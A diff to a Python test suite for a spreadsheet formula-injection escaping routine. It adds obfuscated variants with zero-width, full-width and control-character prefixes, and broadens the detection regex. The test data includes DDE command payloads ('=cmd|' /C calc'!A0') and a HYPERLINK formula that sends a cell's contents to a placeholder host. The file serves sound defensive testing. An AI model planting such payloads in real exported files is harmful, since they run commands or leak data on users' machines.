@@ -33,11 +33,14 @@ FORMULAS = [
     "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x!A0",
     '=HYPERLINK("http://x/?"&A1)', "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋cmd", "－cmd", "＠SUM(1)",
     "Ann;=cmd|x!A0", "Ann\t=1+1", "Ann|@x", "Ann\n=1+1", "Ann\r\n-1+cmd", "=", "'=1", "''=1", "-1+1",
-    "+1-1", "-1e5x", "+4a",
+    "+1-1", "-1e5x", "+4a", "+1-312-753-0189", "+1 312-753-0189", " =x", "\u00a0=1+1", "\ufeff=1+1",
+    "\x00=1+1", "\u200b@x", "\u3000＝1+1", "\x0b-1+x", "﹦1+1", "﹢cmd", "﹣cmd", "﹫SUM(1)", "Ann; =1+1",
+    "Ann\n\u2060+cmd", "' =1", " \t=1", "\U000e0020=1", "\u2028=1",
 ]  # fmt: skip
-HARMLESS = ["", "Ann", "-5", "+4.2", "-1,5", "-1e-5", "+8613812345678", "+1 312-753-0189", "a=b", "a-b",
-            "x@example.com", "'tis", "12", "Ann; Bob", "(=)", " =x"]  # fmt: skip
-DANGER = re.compile(r"^[=+\-@\t\r\n＝＋－＠]")
+HARMLESS = ["", "Ann", "-5", "+4.2", "-1,5", "-1e-5", "+8613812345678", "+1 312 753 0189", "a=b", "a-b",
+            "x@example.com", "'tis", "12", "Ann; Bob", "(=)", " Ann", " -5"]  # fmt: skip
+TRIMMED = r"[\s\x00-\x1f\u00ad\u200b-\u200f\u2060\ufeff\U000e0020]*"
+DANGER = re.compile(rf"^(?:{TRIMMED}[=+\-@＝＋－＠﹦﹢﹣﹫]|[\t\r\n])")
 
 
 def cells_as_split(text: str) -> Iterator[str]:
@@ -51,7 +54,11 @@ def cells_as_split(text: str) -> Iterator[str]:
 @pytest.mark.parametrize("text", FORMULAS)
 def test_no_cell_begins_a_formula_however_the_line_is_split(text: str) -> None:
     made = quoted(text)
-    assert not [cell for cell in cells_as_split(made) if re.match(r"[=+\-@＝＋－＠]", cell)]
+    assert not [
+        cell
+        for cell in cells_as_split(made)
+        if re.match(TRIMMED + r"[=+\-@＝＋－＠﹦﹢﹣﹫]", cell)
+    ]
     assert not DANGER.match(made)
     assert plain(made) == text
 
@@ -61,7 +68,7 @@ def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
     assert quoted(text) == text
 
 
-@given(st.text("'=+-@;|\t\r\n,\"a1.e＝ ", max_size=8))
+@given(st.text("'=+-@;|\t\r\n,\"a1.e＝﹦ \u00a0\ufeff\x00", max_size=8))
 def test_every_text_comes_back(text: str) -> None:
     made = quoted(text)
     assert plain(made) == text
